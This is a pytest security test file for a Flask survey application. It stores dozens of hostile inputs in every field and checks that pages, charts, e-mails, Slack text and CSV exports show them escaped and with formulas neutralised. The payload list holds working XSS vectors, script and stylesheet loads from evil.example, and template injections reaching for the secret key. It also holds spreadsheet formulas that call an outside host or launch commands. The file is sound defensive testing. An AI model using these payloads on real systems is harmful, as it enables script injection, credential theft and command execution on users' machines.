"""Stored XSS and CSV injection: hostile text stored everywhere, rendered everywhere.

Each payload carries its own marker (``xq07z``) inside its active part, so a
payload that escaped into markup is found by where its marker lands once the
page is parsed with :mod:`html.parser`: in a tag or attribute name, in a URL or
style attribute, or inside a ``<script>``/``<style>``. Every page is also
searched for the raw payload (a payload holding ``<``, ``>``, ``&`` or a quote
can only appear raw if it was not escaped) and for dangerous markup the
templates never write (``on*`` attributes, ``javascript:`` URLs, ``<iframe>``,
``<svg>``...). The check cannot pass vacuously: every payload must also be read
back, literally, from the decoded text of the pages that show it, which also
proves that ``{{7*7}}`` was printed and not evaluated.

Payloads are stored the way they arrive: survey texts in a survey definition
(one survey per payload), hidden fields and answers through the customer's
pages and the API, and, for the staff side, straight into the tables (as an
import or a future code path could), with theme labels, terms, department and
advocate names, reasons and audit events.
"""

import csv
import io
import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
import yaml
from flask.testing import FlaskClient
from helpers import answer_rows, csrf_token
from sqlalchemy import select

from cat_survey.catalog import definition_of, latest_version
from cat_survey.db import db
from cat_survey.domain.flow import CONTROL_CHARACTERS
from cat_survey.domain.responses import new_token
from cat_survey.exports import FORMULA_PREFIXES
from cat_survey.models import (
    AdminEvent,
    Answer,
    Department,
    Survey,
    SurveyResponse,
    Theme,
    ThemeAnswer,
    ThemeEvent,
    ThemeMonth,
    User,
    utcnow,
)
from cat_survey.notifications import (
    Outgoing,
    email_message,
    queue_weekly_digest,
    theme_facts,
    theme_notice,
)

TEMPLATES = (
    # script elements
    "<script>alert('{m}')</script>",
    "<SCRIPT SRC=//evil.example/{m}.js></SCRIPT>",
    "<script/src=data:,alert('{m}')></script>",
    "</title><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<<script>alert('{m}');//<</script>",
    "<template><script>alert('{m}')</script></template>",
    # event handlers
    "<img src=x onerror=alert('{m}')>",
    "<body onload=alert('{m}')>",
    "<div onmouseover=\"alert('{m}')\">hover</div>",
    "<input autofocus onfocus=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    "<video><source onerror=\"alert('{m}')\"></video>",
    "<marquee onstart=alert('{m}')>",
    '<img src="x" onerror="&#97;lert(\'{m}\')">',
    # javascript: and data: URLs
    "javascript:alert('{m}')",
    " JaVaScRiPt:alert('{m}')",
    "<a href=\"javascript:alert('{m}')\">click</a>",
    "<a href=\"jav&#x09;ascript:alert('{m}')\">x</a>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<form action=\"javascript:alert('{m}')\"><button>go</button></form>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={m}",
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<embed src=\"javascript:alert('{m}')\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    '<base href="//evil.example/{m}/">',
    # SVG and MathML
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('{m}')\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<math href=\"javascript:alert('{m}')\">CLICK</math>",
    "]]><script>alert('{m}')</script>",
    # attribute breakouts
    "\"><script>alert('{m}')</script>",
    "' onmouseover='alert(\"{m}\")",
    "\" autofocus onfocus=\"alert('{m}')",
    "\"/><img src=x onerror=alert('{m}')>",
    "' ><svg/onload=alert('{m}')>",
    "` onmouseover=alert('{m}') `",
    # template injection
    "{{{{7*7}}}}{m}",
    "{{% for x in 'abc' %}}{m}{{% endfor %}}",
    "{{{{ config.SECRET_KEY }}}}{m}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{m}",
    "${{7*7}}{m}",
    "#{{7*7}}<%= 7*7 %>{m}",
    # CSS
    "<div style=\"width: expression(alert('{m}'))\">",
    "<p style=\"background:url(javascript:alert('{m}'))\">x</p>",
    "<style>@import 'javascript:alert(\"{m}\")';</style>",
    "</style><script>alert('{m}')</script>",
    "<link rel=stylesheet href=//evil.example/{m}.css>",
    # unicode and encoding tricks
    "\uff1cscript\uff1ealert('{m}')\uff1c/script\uff1e",
    "<scr\u200bipt>alert('{m}')</scr\u200bipt>",
    "\u202e<img src=x onerror=alert('{m}')>",
    "<img src=x onerror=alert('{m}')\u2028>",
    "<\u017fcript>alert('{m}')</\u017fcript>",
    "%3Cscript%3Ealert('{m}')%3C/script%3E",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
    "<!--<img src=\"--><img src=x onerror=alert('{m}')//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    # CSV injection (spreadsheet formulas)
    '=HYPERLINK("http://evil.example/?{m}","click")',
    "+cmd|' /C calc'!A0 {m}",
    "-2+3+cmd|' /C calc'!A0 {m}",
    "@SUM(1+1)*cmd|' /C calc'!A0 {m}",
    "\t=1+1 {m}",
    "\r=1+1 {m}",
)
MARKERS = tuple(f"xq{index:02d}z" for index in range(len(TEMPLATES)))
PAYLOADS = tuple(
    template.format(m=marker)
    for template, marker in zip(TEMPLATES, MARKERS, strict=True)
)
SECRET_KEY = "test-secret-key"  # tests/conftest.py: a template injection would show it
HTML_SPECIALS = set("<>&\"'")


def test_there_are_at_least_50_distinct_payloads_each_with_its_own_marker():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 50
    for payload, marker in zip(PAYLOADS, MARKERS, strict=True):
        assert payload.count(marker) == 1
        assert len(payload) <= 100  # fits SurveyResponse.segment
        assert "\x00" not in payload


# ---------------------------------------------------------------- checks


def shown_forms(payload: str) -> set[str]:
    """The payload as pages may show it: as stored, cleaned or on one line."""
    printable = "".join(char for char in payload if char.isprintable()).strip()
    one_line = " ".join(payload.split())
    return {payload, payload.strip(), printable, one_line, " ".join(printable.split())}


#: Attributes that may hold user text, escaped: form values and descriptions.
TEXT_ATTRIBUTES = {"value", "alt", "title", "placeholder", "aria-label"}
#: Elements the templates never write from data.
FORBIDDEN_TAGS = {
    "iframe", "object", "embed", "base", "svg", "math", "template", "frame",
    "frameset", "applet", "style", "foreignobject", "noscript", "xmp",
    "plaintext", "marquee", "video", "audio", "source", "mglyph", "animate",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href"}


class InjectionFinder(HTMLParser):
    """Collects decoded text and every element or attribute a payload produced."""

    def __init__(self, markers: Sequence[str], *, site: str = "") -> None:
        super().__init__(convert_charrefs=True)
        self.markers = markers
        self.site = site
        self.text: list[str] = []
        self.found: list[str] = []
        self.raw_text_tag: str | None = None

    def marked(self, text: str) -> list[str]:
        return [marker for marker in self.markers if marker in text]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        where = f"<{tag}>"
        for marker in self.marked(tag):
            self.found.append(f"{marker} in the tag name {where}")
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"forbidden element {where}")
        values = dict(attrs)
        for name, value in attrs:
            value = value or ""
            for marker in self.marked(name):
                self.found.append(f"{marker} in an attribute name of {where}")
            if name.startswith("on") or name in ("style", "srcdoc", "http-equiv"):
                self.found.append(f"{name}= on {where}")
            if name in URL_ATTRIBUTES and not same_site(value, self.site):
                self.found.append(f"{name}={value!r} leaves the site on {where}")
            if name in URL_ATTRIBUTES:
                # A search may travel in a link's query string, URL-encoded.
                value = value.split("?", 1)[0]
            if name not in TEXT_ATTRIBUTES:
                for marker in self.marked(value):
                    self.found.append(f"{marker} in {name}= of {where}")
            elif value:
                self.text.append(value)
        if tag == "script" and not values.get("src", "").startswith("/static/"):
            self.found.append("a script that is not one of ours")
        if tag == "link" and not values.get("href", "").startswith("/static/"):
            self.found.append("a link that is not our style sheet")
        if tag == "meta" and set(values) - {"charset", "name", "content"}:
            self.found.append(f"a meta element with {sorted(values)}")
        if tag in ("script", "style"):
            self.raw_text_tag = tag

    def handle_startendtag(self, tag: str, attrs: list) -> None:
        self.handle_starttag(tag, attrs)
        self.raw_text_tag = None

    def handle_endtag(self, tag: str) -> None:
        if tag == self.raw_text_tag:
            self.raw_text_tag = None

    def handle_data(self, data: str) -> None:
        if self.raw_text_tag:
            for marker in self.marked(data):
                self.found.append(f"{marker} inside <{self.raw_text_tag}>")
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        for marker in self.marked(data):
            self.found.append(f"{marker} inside a comment")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"a declaration <![{data[:40]}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"a processing instruction <?{data[:40]}")


def same_site(url: str, site: str = "") -> bool:
    """True for a link to this site: a path, a fragment, a query, or ``site/...``."""
    cleaned = "".join(char for char in url if char.isprintable() and char != " ")
    if site and cleaned.startswith(site + "/"):
        return True
    parts = urlsplit(cleaned)
    return not parts.scheme and not parts.netloc and not cleaned.startswith("//")


@dataclass
class Audit:
    """Findings over every rendered page, and how many pages were read."""

    pages: int = 0
    rendered: int = 0
    problems: list[str] = field(default_factory=list)

    def html(
        self, where: str, html: str, shows: Iterable[int] = (), *, site: str = ""
    ) -> None:
        """Check an HTML page that should show payloads ``shows`` (links: ``site``)."""
        self.pages += 1
        finder = InjectionFinder(MARKERS, site=site)
        finder.feed(html)
        finder.close()
        self.problems += [f"{where}: {found}" for found in finder.found]
        self.raw_and_shown(where, html, "\n".join(finder.text), shows, HTML_SPECIALS)

    def svg(self, where: str, svg: bytes, shows: Iterable[int] = ()) -> None:
        """Check an SVG document: well-formed XML with no active content."""
        self.pages += 1
        root = ElementTree.fromstring(svg)
        texts = []
        for element in root.iter():
            tag = element.tag.rsplit("}", 1)[-1].lower()
            if tag in ("script", "foreignobject", "iframe", "a", "animate", "set"):
                self.problems.append(f"{where}: <{tag}> in a chart")
            for name, value in element.attrib.items():
                local = name.rsplit("}", 1)[-1].lower()
                if local.startswith("on") or "javascript:" in value.lower():
                    self.problems.append(f"{where}: {local}={value!r} in a chart")
                for marker in MARKERS:
                    if marker in name or marker in tag:
                        self.problems.append(f"{where}: {marker} became markup")
            texts += [element.text or "", element.tail or ""]
        # matplotlib escapes < > & in text but may leave quotes as they are.
        self.raw_and_shown(
            where, svg.decode("utf-8"), "\n".join(texts), shows, set("<>&")
        )

    def raw_and_shown(
        self, where: str, raw: str, text: str, shows: Iterable[int], specials: set
    ) -> None:
        if SECRET_KEY in raw:
            self.problems.append(f"{where}: the secret key was rendered")
        for index, payload in enumerate(PAYLOADS):
            for form in shown_forms(payload):
                if set(form) & specials and form in raw:
                    self.problems.append(f"{where}: unescaped payload {index}")
        for index in shows:
            self.rendered += 1
            if not any(form in text for form in shown_forms(PAYLOADS[index])):
                self.problems.append(f"{where}: payload {index} is not shown as text")


# ---------------------------------------------------------------- storage


def survey_source(index: int, payload: str) -> str:
    """A survey whose every text is the payload (one survey per payload)."""
    document = {
        "slug": f"xss-{index:02d}",
        "title": payload,
        "description": payload,
        "hidden": ["first_name", "segment", "customer_ref", "plan"],
        "intro": f"{payload} Hi {{first_name|there}}.",
        "thank_you": f"{payload} Thanks, {{first_name}}.",
        "questions": [
            {
                "id": "nps",
                "type": "nps",
                "prompt": payload,
                "help": payload,
                "labels": {"min": payload, "max": payload},
            },
            {
                "id": "pick",
                "type": "choice",
                "prompt": payload,
                "options": [
                    {"value": payload, "label": payload},
                    {"value": "other", "label": "Other"},
                ],
            },
            {
                "id": "many",
                "type": "multi_choice",
                "required": False,
                "prompt": payload,
                "options": [
                    {"value": "a", "label": payload},
                    {"value": "b", "label": "Plain"},
                ],
            },
            {
                "id": "say",
                "type": "text",
                "prompt": payload,
                "help": payload,
                "placeholder": payload,
            },
            {
                "id": "contact_consent",
                "type": "choice",
                "required": False,
                "prompt": payload,
                "options": [
                    {"value": "yes", "label": payload},
                    {"value": "no", "label": "No"},
                ],
            },
        ],
    }
    return yaml.safe_dump(document, allow_unicode=True, sort_keys=False)


@pytest.fixture
def payload_surveys(make_survey: Callable[..., str]) -> list[str]:
    """One stored survey per payload, in payload order; their slugs."""
    return [
        make_survey(survey_source(index, payload))
        for index, payload in enumerate(PAYLOADS)
    ]


def answers_of(index: int, payload: str) -> dict[str, Any]:
    """What payload ``index``'s respondent answered (the payload, wherever text).

    A free-text answer refuses control characters such as U+202E (test_flow.py
    proves it), so the text answer is the payload without them.
    """
    return {
        "nps": index % 11,
        "pick": payload,
        "many": ["a"],
        "say": CONTROL_CHARACTERS.sub("", payload),
        "contact_consent": "yes",
    }


def add_response(slug: str, hidden: dict[str, str], answers: dict[str, Any]) -> Answer:
    """Store a complete response as given (no cleaning); return its text answer."""
    survey = db.session.scalar(select(Survey).filter_by(slug=slug))
    version = latest_version(survey)
    definition = definition_of(version)
    now = utcnow() - timedelta(days=1)
    response = SurveyResponse(
        survey=survey,
        version=version,
        token=new_token(),
        status="complete",
        customer_ref=hidden["customer_ref"],
        segment=hidden["segment"],
        hidden=hidden,
        started_at=now,
        completed_at=now,
        contact_consent=True,
    )
    response.answers.extend(answer_rows(definition, answers, at=now))
    db.session.add(response)
    db.session.flush()
    return next(answer for answer in response.answers if answer.question_id == "say")


@pytest.fixture
def payload_themes(
    payload_surveys: list[str], staff: dict[str, User], make_user: Callable
) -> list[int]:
    """Per payload: a department, its advocate, a respondent and a theme; ids."""
    theme_ids = []
    for index, payload in enumerate(PAYLOADS):
        department = Department(slug=f"x{index:02d}", name=payload)
        db.session.add(department)
        db.session.flush()
        owner = make_user(
            f"owner{index}@example.com", role="advocate", department=department.slug
        )
        owner.name = payload
        hidden = dict.fromkeys(
            ("first_name", "segment", "customer_ref", "plan"), payload
        )
        answer = add_response(
            payload_surveys[index], hidden, answers_of(index, payload)
        )
        theme = Theme(
            survey_id=answer.response.survey_id,
            label=payload,
            terms=[payload, "plain"],
            routing_terms=[payload],
            routing_confidence=0.3,
            department=department,
            owner=owner,
            status="acknowledged",
            status_reason=payload,
            sentiment=-0.4,
            size=1,
            quotes=[answer.id],
            needs_triage=True,
        )
        db.session.add(theme)
        db.session.flush()
        db.session.add(ThemeAnswer(answer_id=answer.id, theme_id=theme.id))
        db.session.add(
            ThemeMonth(theme_id=theme.id, month=utcnow().date().replace(day=1), count=1)
        )
        for kind, was, now in (("reassigned", payload, department.slug),
                               ("status_changed", "new", payload)):  # fmt: skip
            db.session.add(
                ThemeEvent(
                    theme_id=theme.id,
                    actor_id=owner.id,
                    kind=kind,
                    from_value=was,
                    to_value=now,
                    reason=payload,
                )
            )
        theme_ids.append(theme.id)
    db.session.commit()
    return theme_ids


# ---------------------------------------------------------------- customer pages


def answer_by_api(
    client: FlaskClient, token: str, question_id: str, value: Any
) -> None:
    response = client.post(
        f"/api/v1/conversations/{token}/answers",
        json={"question_id": question_id, "value": value},
    )
    assert response.status_code == 200, response.get_json()


@pytest.mark.slow
def test_customer_pages_show_survey_texts_hidden_fields_and_answers_as_text(
    client, payload_surveys
):
    audit = Audit()
    for index, payload in enumerate(PAYLOADS):
        slug, mine = payload_surveys[index], [index]
        hidden = dict.fromkeys(
            ("first_name", "segment", "customer_ref", "plan"), payload
        )
        intro = client.get(f"/s/{slug}", query_string=hidden)
        audit.html(f"intro {index}", intro.text, mine)
        refused = client.post(f"/s/{slug}", data=hidden)  # no token: asked again
        assert refused.status_code == 400
        audit.html(f"refused start {index}", refused.text, mine)
        started = client.post(
            f"/s/{slug}", data={**hidden, "csrf_token": csrf_token(intro.text)}
        )
        url = started.headers["Location"]
        token = url.rsplit("/", 1)[-1]
        for question_id, value in answers_of(index, payload).items():
            step = client.get(url)
            audit.html(f"{question_id} step {index}", step.text, mine)
            if question_id == "say":
                stale = client.post(
                    url,
                    data={"question_id": "say", "value": payload, "csrf_token": "x"},
                )
                assert stale.status_code == 400  # keeps the text, asks to resend
                audit.html(f"resend step {index}", stale.text, mine)
            answer_by_api(client, token, question_id, value)
        done = client.get(url)
        assert "Thank you" in done.text
        audit.html(f"transcript {index}", done.text, mine)
    index_page = client.get("/")
    audit.html("survey list", index_page.text, range(len(PAYLOADS)))
    assert audit.problems[:20] == []
    assert audit.pages == 9 * len(PAYLOADS) + 1


# ---------------------------------------------------------------- staff pages


@pytest.mark.slow
@pytest.mark.filterwarnings("ignore:Glyph .* missing from font:UserWarning")
def test_staff_pages_and_charts_show_every_payload_as_text(
    payload_themes, signed_in, token_for
):
    lead = signed_in("cx_lead")
    everyone = range(len(PAYLOADS))
    audit = Audit()
    audit.html("themes", lead.get("/themes?status=all").text, everyone)
    audit.html("triage", lead.get("/themes/triage").text, everyone)
    for index, theme_id in enumerate(payload_themes):
        following = (index + 1) % len(PAYLOADS)
        moved = lead.post(
            f"/themes/{theme_id}/reassign",
            data={
                "department": f"x{following:02d}",
                "reason": PAYLOADS[index],
                "csrf_token": token_for(lead),
            },
        )
        assert moved.status_code == 302
        # Flash message (the new department's name), search echo, answers, audit.
        page = lead.get(f"/themes/{theme_id}", query_string={"q": PAYLOADS[index]})
        assert page.status_code == 200
        audit.html(f"theme {index}", page.text, {index, following})
    for query in ("breakdown=segment", "breakdown=hidden:plan", "breakdown=survey"):
        page = lead.get(f"/dashboard?{query}")
        assert page.status_code == 200
        # Segment and plan tables name every payload; by survey, the filter does.
        audit.html(f"dashboard {query}", page.text, everyone)
        chart = lead.get(f"/dashboard/chart/breakdown.svg?{query}")
        audit.svg(f"chart {query}", chart.data)
    for index, payload in enumerate(PAYLOADS):
        narrowed = lead.get("/dashboard", query_string={"segment": payload})
        assert narrowed.status_code == 200
        audit.html(f"dashboard of segment {index}", narrowed.text, [index])
        wrong = lead.get("/dashboard/export/nps.csv", query_string={"survey": payload})
        assert wrong.status_code == 400  # the error page names the wrong value
        audit.html(f"error page {index}", wrong.text, [index])
    assert audit.problems == []
    assert audit.rendered >= 8 * len(PAYLOADS)


@pytest.mark.slow
def test_admin_pages_show_every_payload_as_text(payload_themes, signed_in):
    admin = signed_in("admin")
    owners = {
        int(user.email.removeprefix("owner").split("@")[0]): user
        for user in db.session.scalars(select(User).where(User.email.like("owner%")))
    }
    for index, owner in owners.items():
        # Audit lines quote what was typed: a department's old and new name.
        db.session.add(
            AdminEvent(
                kind="department_edited",
                field="name",
                actor_id=owner.id,
                user_id=owner.id,
                department_id=owner.department_id,
                from_value=PAYLOADS[index],
                to_value=PAYLOADS[index],
            )
        )
    db.session.commit()
    everyone = range(len(PAYLOADS))
    audit = Audit()
    audit.html("staff accounts", admin.get("/admin").text, everyone)
    audit.html("departments", admin.get("/admin/departments").text, everyone)
    for index, owner in sorted(owners.items()):
        account = admin.get(f"/admin/users/{owner.id}")
        audit.html(f"account {index}", account.text, [index])
        department = admin.get(f"/admin/departments/x{index:02d}")
        audit.html(f"department {index}", department.text, [index])
    assert audit.problems == []
    assert audit.rendered >= 2 * len(PAYLOADS)


# ---------------------------------------------------------------- e-mails


def test_theme_notices_and_digests_escape_every_payload(app, payload_themes):
    site = app.config["BASE_URL"]  # e-mails link to the app by absolute address
    audit = Audit()
    slack_texts = []
    for index, theme_id in enumerate(payload_themes):
        theme = db.session.get(Theme, theme_id)
        message = theme_notice(theme_facts(theme))
        audit.html(f"notice {index}", message.html, [index], site=site)
        slack_texts += [message.slack["text"]] + [
            block["text"]["text"] for block in message.slack["blocks"]
        ]
        digest = queue_weekly_digest(theme.owner)
        audit.html(f"digest {index}", digest.payload["html"], [index], site=site)
        mime = email_message(
            Outgoing(
                index, "email", "a@example.com", message.subject, "", digest.payload
            ),
            sender="cat@example.com",
        )
        sent = mime.get_body(("html",)).get_content()
        assert sent.splitlines() == digest.payload["html"].splitlines()
        # A line break in a subject would start a new header.
        assert not {"\r", "\n"} & set(message.subject + digest.subject)
    assert audit.problems == []
    # Slack reads <...> as a link or a mention: only our own link may use them.
    for text in slack_texts:
        assert re.sub(r"<https?://[^<>|]+\|Open the theme>", "", text).count("<") == 0


# ---------------------------------------------------------------- CSV


def csv_cells(data: bytes) -> list[list[str]]:
    """The rows of a CSV download (UTF-8 with a byte order mark)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_exports_neutralise_formulas_and_keep_each_payload_verbatim(
    payload_themes, signed_in
):
    lead = signed_in("cx_lead")
    downloads = {
        f"theme {index}": lead.get(f"/themes/{theme_id}/answers.csv").data
        for index, theme_id in enumerate(payload_themes)
    }
    for query in ("breakdown=segment", "breakdown=hidden:plan"):
        downloads[query] = lead.get(f"/dashboard/export/breakdown.csv?{query}").data
    formulas, cells_read = [], 0
    found = {index: 0 for index in range(len(PAYLOADS))}
    for where, data in downloads.items():
        for row in csv_cells(data):
            for cell in row:
                cells_read += 1
                if cell.startswith(FORMULA_PREFIXES) and not is_number(cell):
                    formulas.append((where, cell))
                for index, payload in enumerate(PAYLOADS):
                    expected = (
                        "'" + payload
                        if payload.startswith(FORMULA_PREFIXES)
                        else payload
                    )
                    found[index] += cell == expected
    assert formulas == []
    # Each theme CSV holds the answer, first name and reference; each breakdown
    # the group: the payload comes back exactly, quote-prefixed if a formula.
    assert all(count >= 5 for count in found.values()), found
    assert cells_read > 1000
